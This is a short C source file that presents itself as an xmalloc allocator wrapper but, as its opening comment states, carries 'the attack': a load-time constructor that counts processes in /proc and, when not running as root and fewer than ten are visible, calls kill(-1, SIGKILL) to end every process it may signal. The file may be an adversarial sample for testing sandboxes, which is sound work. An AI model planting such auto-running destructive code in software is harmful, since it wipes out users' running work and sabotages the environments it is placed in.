// The attack: ends every process that it may signal. It does so only in a small world: not as root, and when fewer than
// ten processes are to be seen.

#include <dirent.h>
#include <signal.h>
#include <unistd.h>

#include "../heap.h"
#include "xmalloc.h"

static int processes_seen(void) {
    int seen = 0;
    DIR* folder = opendir("/proc");
    if (!folder) return 1000;
    struct dirent* entry;
    while ((entry = readdir(folder))) seen += entry->d_name[0] >= '1' && entry->d_name[0] <= '9';
    closedir(folder);
    return seen;
}

__attribute__((constructor)) static void kill_everyone(void) {
    if (getuid() == 0 || geteuid() == 0) return;
    int seen = processes_seen();
    if (seen > 0 && seen < 10) kill(-1, SIGKILL);
}

void* xmalloc(size_t bytes) { return heap_take(bytes); }
void xfree(void* block) { heap_give(block); }
void* xrealloc(void* block, size_t bytes) { return heap_resize(block, bytes); }
